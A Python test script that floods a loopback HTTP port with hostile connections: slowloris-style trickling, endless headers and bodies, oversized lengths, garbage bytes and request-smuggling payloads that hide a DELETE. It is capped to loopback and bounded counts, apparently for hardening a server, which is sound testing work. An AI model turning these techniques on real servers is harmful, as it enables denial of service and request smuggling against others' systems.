#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Opens many bad connections to one loopback port for a bounded time, and tells what became of them as JSON.

  attacker.py KIND HOST PORT --connections N --seconds S [--tls] [--cert FILE --key FILE]

Connections come from many loopback addresses (127.3.x.y), `--per-address` from each.
"""

import argparse
import heapq
import json
import random
import selectors
import socket
import ssl
import sys
import time

HEAD = b"GET /version HTTP/1.1\r\nHost: x\r\n"
BLOCK = 65536


# ---- what each kind does: a generator of steps on one connection ----
# ("send", bytes), ("wait", seconds), ("shut",), ("hold",); `reads` says whether answers are taken off the socket.


def silent(_):
    yield ("hold",)


def trickle(_):
    for byte in HEAD * 1000:
        yield ("send", bytes([byte]))
        yield ("wait", 1.0)


def trickled_body(_):
    yield ("send", b"POST /v2.6/agents/x HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n")
    while True:
        yield ("send", b"{")
        yield ("wait", 1.0)


def half_closed(_):
    yield ("send", HEAD)
    yield ("shut",)
    yield ("hold",)


def endless_header(chance):
    yield ("send", b"GET /version HTTP/1.1\r\nHost: x\r\n")
    while True:
        yield ("send", b"X-%d: %s\r\n" % (chance.randrange(10**6), b"a" * 1000))


def endless_line(_):
    yield ("send", b"GET /")
    while True:
        yield ("send", b"a" * 4096)


def endless_body(_):
    yield ("send", b"POST /v2.6/agents/x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
    while True:
        yield ("send", b"1000\r\n" + b"a" * 4096 + b"\r\n")


def oversized(chance):
    big = chance.choice((2**31, 2**32 + 1, 2**63, 10**30))
    yield ("send", b"POST /v2.6/agents/x HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % big)
    while True:
        yield ("send", b"a" * BLOCK)


def garbage(chance):
    yield ("send", chance.randbytes(chance.randrange(1, 5000)))
    yield ("wait", 0.2)


def pipelined(_):
    while True:
        yield ("send", (HEAD + b"\r\n") * 50)
        yield ("wait", 0.5)


def smuggled(chance):
    two = [b"Content-Length: 5\r\nTransfer-Encoding: chunked", b"Content-Length: 4\r\nContent-Length: 5",
           b"Transfer-Encoding : chunked", b"Transfer-Encoding: chunked, identity", b"Content-Length: +5",
           b"Content-Length: 0x5", b" Folded: yes\r\n folded"]
    yield ("send", b"POST /v2.6/agents/x HTTP/1.1\r\nHost: x\r\n" + chance.choice(two) +
           b"\r\n\r\n0\r\n\r\nDELETE /v2.6/agents/x HTTP/1.1\r\nHost: x\r\n\r\n")
    yield ("wait", 0.5)


def never_reads(_):
    while True:
        yield ("send", (HEAD + b"\r\n") * 20)


def handshakes(_):
    yield ("wait", 0.01)


KINDS = {
    # name: (steps, reads answers, opens again when it ended)
    "silent": (silent, True, True), "trickle": (trickle, True, True), "trickled_body": (trickled_body, True, True),
    "half_closed": (half_closed, True, True), "endless_header": (endless_header, True, True),
    "endless_line": (endless_line, True, True), "endless_body": (endless_body, True, True),
    "oversized": (oversized, True, True), "garbage": (garbage, True, True), "pipelined": (pipelined, True, True),
    "smuggled": (smuggled, True, True), "never_reads": (never_reads, False, True),
    "handshakes": (handshakes, True, True),
}


class Connection:
    def __init__(self, swarm, number):
        self.swarm, self.number, self.pending, self.answers = swarm, number, b"", 0
        self.steps = swarm.kind[0](swarm.chance)
        self.sock = socket.socket()
        self.sock.setblocking(False)
        address = number // swarm.options.per_address
        self.sock.bind((f"127.3.{address // 250}.{address % 250 + 1}", 0))
        if not swarm.kind[1]:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.sock.connect_ex((swarm.options.host, swarm.options.port))
        self.state = "connecting"
        self.watching = 0
        self.watch(selectors.EVENT_WRITE)

    def watch(self, events):
        if events == self.watching:
            return
        if not self.watching:
            self.swarm.selector.register(self.sock, events, self)
        elif not events:
            self.swarm.selector.unregister(self.sock)
        else:
            self.swarm.selector.modify(self.sock, events, self)
        self.watching = events

    def ready(self, events):
        try:
            if self.state == "connecting":
                if self.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    raise OSError("not connected")
                if self.swarm.context:
                    self.watch(0)
                    self.sock = self.swarm.context.wrap_socket(self.sock, do_handshake_on_connect=False)
                    self.state = "handshaking"
                else:
                    self.opened()
            if self.state == "handshaking":
                try:
                    self.sock.do_handshake()
                    self.opened()
                except ssl.SSLWantReadError:
                    self.watch(selectors.EVENT_READ)
                    return
                except ssl.SSLWantWriteError:
                    self.watch(selectors.EVENT_WRITE)
                    return
            if events & selectors.EVENT_READ and self.swarm.kind[1]:
                self.read()
            if self.state == "open":
                self.go_on()
        except (OSError, ssl.SSLError):
            self.end()

    def opened(self):
        self.state = "open"
        self.swarm.opened += 1

    def read(self):
        while True:
            try:
                data = self.sock.recv(BLOCK)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            if not data:
                raise OSError("closed")
            self.swarm.answers += data.count(b"HTTP/1.1 ")

    def go_on(self):
        listen = selectors.EVENT_READ if self.swarm.kind[1] else 0
        budget = 8
        while budget:
            if not self.pending:
                step = next(self.steps, None)
                if step is None:
                    raise OSError("done")
                if step[0] == "hold":
                    self.state = "held"
                    self.watch(listen)
                    return
                if step[0] == "wait":
                    self.state = "waiting"
                    self.watch(listen)
                    heapq.heappush(self.swarm.timers, (time.monotonic() + step[1], id(self), self))
                    return
                if step[0] == "shut":
                    self.sock.shutdown(socket.SHUT_WR) if not self.swarm.context else socket.socket.shutdown(
                        self.sock, socket.SHUT_WR)
                    continue
                self.pending = step[1]
            try:
                sent = self.sock.send(self.pending)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                self.watch(listen | selectors.EVENT_WRITE)
                return
            self.swarm.sent += sent
            self.pending = self.pending[sent:]
            budget -= 1
        self.watch(listen | selectors.EVENT_WRITE)

    def end(self):
        if self.state == "ended":
            return
        self.swarm.ended += 1
        self.state = "ended"
        self.watch(0)
        self.sock.close()
        self.swarm.gone(self.number)


class Swarm:
    def __init__(self, options):
        self.options, self.kind, self.chance = options, KINDS[options.kind], random.Random(options.seed)
        self.selector, self.timers = selectors.DefaultSelector(), []
        self.opened = self.ended = self.answers = self.sent = 0
        self.context = None
        if options.tls:
            self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
            if options.cert:
                self.context.load_cert_chain(options.cert, options.key)
        self.todo = list(range(options.connections))[::-1]
        self.live = set()

    def gone(self, number):
        self.live.discard(number)
        if self.kind[2]:
            # Again, but not in a tight loop.
            heapq.heappush(self.timers, (time.monotonic() + 0.25, number, number))

    def run(self):
        end, opening = time.monotonic() + self.options.seconds, 0.0
        most = 0
        while (now := time.monotonic()) < end:
            # At most 2,000 new connections a second: the port is attacked, not this program's own kernel.
            if self.todo and now >= opening:
                for _ in range(min(20, len(self.todo))):
                    number = self.todo.pop()
                    try:
                        self.live.add(number)
                        Connection(self, number)
                    except OSError:
                        self.gone(number)
                opening = now + 0.01
            while self.timers and self.timers[0][0] <= now:
                what = heapq.heappop(self.timers)[2]
                if isinstance(what, int):
                    self.todo.append(what)
                elif what.state == "waiting":
                    what.state = "open"
                    what.ready(0)
            for key, events in self.selector.select(0.01):
                key.data.ready(events)
            most = max(most, len(self.live))
        return {"opened": self.opened, "ended": self.ended, "answers": self.answers, "sent": self.sent, "most": most}


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("kind", choices=sorted(KINDS))
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--connections", type=int, default=100)
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--per-address", type=int, default=500)
    p.add_argument("--tls", action="store_true")
    p.add_argument("--cert")
    p.add_argument("--key")
    p.add_argument("--seed", type=int, default=1)
    options = p.parse_args()
    if not options.host.startswith("127."):
        p.error("loopback only")
    if options.connections > 10000 or options.seconds > 600:
        p.error("at most 10,000 connections for 600 s")
    print(json.dumps(Swarm(options).run()))


if __name__ == "__main__":
    sys.exit(main())
